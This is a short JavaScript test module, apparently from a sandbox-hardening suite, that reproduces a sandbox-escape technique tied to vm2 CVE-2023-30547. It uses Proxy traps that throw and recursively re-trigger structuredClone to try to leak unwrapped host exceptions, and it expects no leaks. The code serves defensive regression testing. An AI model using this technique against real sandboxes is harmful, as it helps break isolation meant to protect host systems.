// From: vm2 CVE-2023-30547: an exception of the host thrown inside a proxy's trap came out unwrapped.
// Ends: []
import { gains } from "../gains.js";

export const attack = () => {
  const errors = [];
  let left = 5;
  const deep = (f) => { try { deep(f); } catch (error) { if (left-- > 0) { errors.push(error); f(); } throw error; } };
  const trap = new Proxy({}, {
    getPrototypeOf() { try { throw new URL("no url"); } catch (error) { errors.push(error); throw error; } },
    ownKeys() { deep(() => structuredClone({ a: 1 })); },
  });
  for (const f of [() => structuredClone(trap), () => console.log(trap), () => trap instanceof Object, () => Object.keys(trap)]) {
    try { f(); } catch (error) { errors.push(error); }
  }
  return gains(errors.map((error) => () => (error instanceof Error ? undefined : error)));
};
